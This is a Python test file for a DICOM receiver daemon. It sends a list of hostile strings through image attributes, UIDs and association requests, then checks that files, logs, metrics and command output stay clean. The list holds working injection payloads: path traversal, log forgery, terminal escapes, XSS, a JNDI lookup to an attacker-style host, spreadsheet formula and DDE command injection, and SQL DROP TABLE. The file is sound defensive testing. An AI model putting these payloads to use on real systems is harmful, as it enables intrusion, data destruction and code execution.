"""What senders write into UIDs, names, titles and texts stays text wherever it is shown."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import struct
import sys
from collections.abc import Callable
from pathlib import Path

from prometheus_client.parser import text_string_to_metric_families
from pydicom._dicom_dict import DicomDictionary
from pydicom.dataset import Dataset
from pydicom.tag import Tag

import forked
from receive.peers import Peer, associate_request, encoded
from receive.sockets import type_of_answer
from running import Daemon, instance

HOSTILE = (
    b"../../../../../../tmp/escaped",
    b"/etc/passwd\0.dcm",
    b"1.2\r\n2026-01-01T00:00:00.000Z ERROR supervisor forged",
    b"\x1b[31m\x1b]8;;http://evil.example\x07here",
    b"<script>alert(1)</script>",
    b"%s%n{0.__class__}${jndi:ldap://evil}",
    b"[/no][link=http://evil.example]",
    b'=HYPERLINK("http://evil.example")',
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"'; DROP TABLE verdict; --",
    b'",} 7\ndiptych_forged{x="',
    "\u202e\u2066gnp.exe\u200b".encode(),
    b"A" * 20_000,
)
TEXTS = {"AE", "AS", "CS", "DA", "DS", "DT", "IS", "LO", "LT", "PN", "SH", "ST", "TM", "UC", "UI"}
TEXTS |= {"UR", "UT"}
LONG = {"UC", "UR", "UT"}
SOP_INSTANCE_UID, MODALITY = 0x00080018, 0x00080060
# What makes it an image that can be read, and what the file meta is about.
KEPT = (0x0000, 0x0002, 0x0028)
KEPT_TAGS = (0x00080005, 0x00080016, 0x00080018, 0x0020000D, 0x0020000E, 0x00200032, 0x00200037)
UIDS = ("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID")
OURS = re.compile(r"instances/default/[0-9a-f]{2}/[0-9a-f]{32}\.dcm|quarantine/[0-9a-f]{32}\.dcm")
NAMES = "supervisor|acceptor|worker|forwarder|audit"
LINE = re.compile(rf"\d{{4}}-\d\d-\d\dT[\d:.]+Z [A-Z]+ ({NAMES}) .*")


def test_hostile_texts_stay_texts_in_files_log_metrics_and_commands(
    make_daemon: Callable[..., Daemon], tmp_path: Path
) -> None:
    daemon = make_daemon("in/data").start()
    outside = _outside(daemon, tmp_path)
    assert (
        _send(daemon, _elements(instance())) == 0x0000
    )  # from here on the source has a last receipt
    daemon.wait_until(lambda: _judged(daemon) == 1, "judged", 60)
    names = _samples(daemon)
    kept = 1
    for text in HOSTILE:
        kept += _send(daemon, _everywhere(text)) == 0x0000
        for keyword in UIDS:
            kept += _send(daemon, _uid(keyword, text)) == 0x0000
        with socket.create_connection(("127.0.0.1", daemon.port), timeout=20) as peer:
            peer.sendall(associate_request(text[:16]))
            assert type_of_answer(peer) is not None
    # All but those that cannot be a UID of at most 64 printable ASCII characters.
    assert kept > len(HOSTILE) * 2
    daemon.wait_until(lambda: _judged(daemon) == kept, "judged", 120)

    spool = daemon.data / "spool"
    assert _outside(daemon, tmp_path) == outside
    for folder in ("instances", "quarantine"):
        for path in (spool / folder).rglob("*"):
            assert path.is_dir() or OURS.fullmatch(str(path.relative_to(spool))), path
    for line in daemon.log().splitlines():
        assert line.isprintable(), line
        assert LINE.fullmatch(line), line
    # What is read now and then may be there by now; a label that a sender chose may not.
    read_by_the_clock = {"diptych_index_recall", "diptych_check_timestamp_seconds"}
    assert {name for name, _ in _samples(daemon) ^ names} <= read_by_the_clock

    said = {}
    (tmp_path / "loose.toml").write_text('name = "loose"\nversion = 1\nd_max = 1.9\n')
    case = daemon.value("SELECT max(id) FROM series")
    for command in (
        "verdicts",
        "verdicts --format json",
        "verdicts --format csv",
        "audit verify",
        f"policy add {tmp_path / 'loose.toml'}",
        "reverdict --since 1h --policy loose/1 --dry-run",
        f"similar {case} --top 50",
        f"similar {case} --top 50 --json -",
        "calibrate --transforms none",
        "forward list",
        "conformance",
        "doctor",
    ):
        words = [sys.executable, "-m", "diptych", *command.split(), "--data", str(daemon.data)]
        done = forked.run(words, check=False, capture_output=True, timeout=120)
        text = (done.stdout + done.stderr).decode()
        assert done.returncode == 0, text
        assert "Traceback" not in text
        assert all(c.isprintable() or c == "\n" for c in text), (command, text)
        said[command] = text
    assert "unique" in said["reverdict --since 1h --policy loose/1 --dry-run"]
    assert len(json.loads(said["verdicts --format json"])) == kept
    rows = list(csv.DictReader(io.StringIO(said["verdicts --format csv"])))
    assert len(rows) == kept
    cells = [cell for row in rows for cell in row.values()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]


def _everywhere(text: bytes) -> dict[int, bytes]:
    """An image with the text in every other attribute that can hold one."""
    elements = _elements(instance())
    for tag, (vr, *_) in DicomDictionary.items():
        if tag >> 16 not in KEPT and tag not in KEPT_TAGS and vr in TEXTS:
            elements[tag] = _element(tag, vr, text)
    return elements


def _uid(keyword: str, text: bytes) -> dict[int, bytes]:
    elements = _elements(instance())
    elements[MODALITY] = _element(MODALITY, "CS", text[:16])
    tag = int(Tag(keyword))
    elements[tag] = _element(tag, "UI", text)
    return elements


def _elements(data_set: Dataset) -> dict[int, bytes]:
    """Each element as explicit VR little endian."""
    found = {}
    data_set["PixelData"].VR = "OW"
    for element in data_set:
        one = Dataset()
        one.add(element)
        found[int(element.tag)] = encoded(one)
    return found


def _element(tag: int, vr: str, value: bytes) -> bytes:
    """As no library would write it (PS3.5 section 7.1.2)."""
    value += b" " * (len(value) % 2)
    head = struct.pack("<HH2s", tag >> 16, tag & 0xFFFF, vr.encode())
    size = struct.pack("<HI", 0, len(value)) if vr in LONG else struct.pack("<H", len(value))
    return head + size + value


def _send(daemon: Daemon, elements: dict[int, bytes]) -> int:
    uid = elements[SOP_INSTANCE_UID][8:].rstrip(b"\0 ")
    peer = Peer(daemon.port)
    status = peer.store_bytes(uid, b"".join(elements[tag] for tag in sorted(elements)))
    peer.release()
    return status


def _judged(daemon: Daemon) -> int:
    return int(daemon.value("SELECT count(DISTINCT revision_id) FROM verdict"))


def _samples(daemon: Daemon) -> set[tuple[str, tuple[tuple[str, str], ...]]]:
    """Names and labels of every sample."""
    families = text_string_to_metric_families(daemon.get("/metrics")[1])
    return {
        (sample.name, tuple(sorted(sample.labels.items())))
        for family in families
        for sample in family.samples
    }


def _outside(daemon: Daemon, folder: Path) -> set[Path]:
    found = {path for path in folder.rglob("*") if not path.is_relative_to(daemon.data)}
    return found | set(Path("/tmp").glob("escaped*"))
